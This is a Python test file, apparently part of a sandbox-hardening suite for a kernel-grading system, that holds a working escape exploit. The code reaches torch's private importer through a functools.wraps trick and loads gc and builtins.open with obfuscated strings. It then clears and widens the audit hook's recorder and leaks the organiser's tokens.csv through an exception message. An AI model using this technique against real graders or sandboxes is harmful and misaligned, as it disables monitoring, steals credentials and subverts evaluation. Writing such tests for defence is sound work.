# expect: SV
# message: torch.backends
"""Passed `kdt-grade audit` (attacker review of issue 20); now SV.(no violations). functools.wraps in its allowed fixed form copies the
__dict__ of `torch.backends.cudnn.m` (the real module object behind the PropModule, i.e. its globals) onto
a plain function `w`; attributes of `w` are not treated as attributes of an imported module, so
`w.torch._import_dotted_name` (private) is allowed, and it imports any module / returns any attribute
from a run-time string. From there: gc -> the audit hook's Recorder is widened and emptied -> builtins.open
reads any world-readable host file, returned in the CE message (here the organiser's tokens.csv,
written by the README's `admin users import team.csv > tokens.csv` with umask 022)."""
import functools
import torch


@functools.wraps(torch.backends.cudnn.m)
def w():
    pass


def get_kernel(task_id):
    imp = w.torch._import_dotted_name
    collector = imp("g" + "c")
    for obj in collector.get_objects():
        if "audithook.Recorder" in str(type(obj)):
            obj.events.clear()
            obj.allowed = ("/",)
    reader = imp("bui" + "ltins.op" + "en")
    raise RuntimeError("LEAK " + reader("/work/attack/tokens.csv").read())
